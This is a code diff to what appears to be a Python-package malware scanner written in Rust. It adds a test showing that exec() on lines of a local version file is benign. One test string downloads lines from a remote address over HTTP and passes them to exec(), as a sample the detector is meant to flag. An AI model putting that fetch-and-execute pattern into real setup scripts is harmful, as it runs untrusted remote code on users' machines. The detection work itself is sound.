@@ -151,7 +151,8 @@ impl<'a> Visitor<'a> for DecodingFinder<'_, '_> {
     }
 }
 
-fn is_file_read(checker: &Checker, expr: &Expr) -> bool {
+/// `open(p).read()`, `Path(p).read_text()` and the like: reading a local file's text.
+pub(crate) fn is_file_read(checker: &Checker, expr: &Expr) -> bool {
     let Expr::Call(call) = expr else { return false };
     // `(root / "version.py").read_text()`: the receiver need not resolve to be a file read.
     if let Expr::Attribute(attribute) = &*call.func
@@ -544,6 +545,21 @@ pub fn check_py2_exec_statements(checker: &mut Checker, body: &[Stmt]) {
 mod tests {
     #![allow(clippy::expect_used)]
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn exec_of_a_line_of_a_local_file_is_the_version_idiom() {
+        for code in [
+            "with open('pkg.py') as f:\n    for line in f:\n        if line.startswith('__version__'):\n            ns = {}\n            exec(line, ns)\n",
+            "from pathlib import Path\nROOT = Path(__file__).parent\nfor line in (ROOT / 'pkg' / 'version.py').read_text().splitlines():\n    if line.startswith('__version__'):\n        exec(line, {})\n",
+            "for line in open('pkg/version.py').readlines():\n    exec(line)\n",
+        ] {
+            let severity = max_severity("p-1/setup.py", code, "WH110");
+            assert!(severity > 0.0 && severity <= 0.05, "{severity}: {code}");
+        }
+        // Lines of a downloaded response are no local file.
+        let fetched = "import urllib.request\nfor line in urllib.request.urlopen('http://203.0.113.9/x').read().splitlines():\n    exec(line)\n";
+        assert!(max_severity("p-1/setup.py", fetched, "WH110") >= 0.45);
+    }
 
     #[test]
     fn a_pattern_built_from_decoded_constants_does_not_taint_what_it_matches() {
